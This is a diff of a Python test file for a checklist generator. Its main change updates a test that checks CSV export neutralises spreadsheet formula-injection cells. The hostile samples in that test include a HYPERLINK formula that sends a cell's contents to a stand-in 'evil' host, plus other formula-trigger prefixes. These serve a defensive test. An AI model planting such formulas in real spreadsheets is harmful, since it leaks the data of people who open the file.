@@ -365,14 +365,16 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
     import csv
     import io
 
-    from generator.checklist import COLUMNS, to_csv
+    from generator import languages
+    from generator.checklist import columns, to_csv
 
+    registry = languages.default()
     hostile = ['=HYPERLINK("http://evil/?x="&A2,"ok")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
     harmless = ["員工 = 職員", "a-b", "", "'quoted"]
-    rows = [{column: "" for column in COLUMNS} | {"do_zh": text, "do_en": text} for text in hostile + harmless]
-    read = list(csv.DictReader(io.StringIO(to_csv(rows).decode("utf-8-sig"), newline="")))
-    assert [row["do_zh"] for row in read] == ["'" + text for text in hostile] + harmless
-    assert [row["do_en"] for row in read] == [row["do_zh"] for row in read]
+    rows = [{column: "" for column in columns(registry)} | {"do_zh-Hant": text, "do_en": text} for text in hostile + harmless]
+    read = list(csv.DictReader(io.StringIO(to_csv(rows, registry).decode("utf-8-sig"), newline="")))
+    assert [row["do_zh-Hant"] for row in read] == ["'" + text for text in hostile] + harmless
+    assert [row["do_en"] for row in read] == [row["do_zh-Hant"] for row in read]
 
 
 def test_jieba_is_given_no_run_longer_than_the_bound(monkeypatch):
@@ -421,12 +423,6 @@ def test_diff_reads_no_symlinked_policy_in_a_revision_or_on_disk(clean_project, 
     in_history = capsys.readouterr().out
     for out in (on_disk, in_history):
         assert "evil.yaml" in out and SECRET not in out and "outside" not in out
-
-
-def test_check_knows_the_fonts_the_printers_use():
-    from generator import pdf, printable
-
-    assert printable.PAGE_FONTS == pdf.PAGE_FONTS
 
 
 def test_a_long_run_of_one_character_reaches_jieba_only_in_pieces(mini_project, tmp_path, monkeypatch, capsys):
